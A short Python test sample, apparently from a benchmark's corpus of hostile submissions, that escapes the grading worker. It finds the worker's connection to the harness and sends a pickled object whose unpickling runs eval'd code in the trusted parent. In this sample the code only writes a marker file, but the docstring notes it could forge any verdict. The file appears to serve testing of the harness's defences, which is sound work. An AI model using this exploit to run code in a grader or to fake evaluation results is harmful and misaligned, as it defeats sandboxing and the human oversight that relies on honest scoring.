"""Hostile (fake verdict / escape from the worker): finds the worker's connection to the harness
with gc and sends a message whose unpickling runs code. If the trusted parent unpickles what the
worker sends, the code runs in the parent: here it only creates a marker file named with the
parent's pid (/tmp/solbench-corpus-pwned-<pid>); a real attack could forge any verdict."""
import gc
from multiprocessing.connection import Connection

import torch

_CODE = "open('/tmp/solbench-corpus-pwned-%d' % __import__('os').getpid(), 'w').close()"


class _Payload:
    def __reduce__(self):
        return (eval, (_CODE,))


def run(x, y):
    for obj in gc.get_objects():
        if isinstance(obj, Connection):
            try:
                obj.send((1, "ok", {"returned": None, "payload": _Payload()}))
            except Exception:
                pass
    return torch.zeros_like(x)
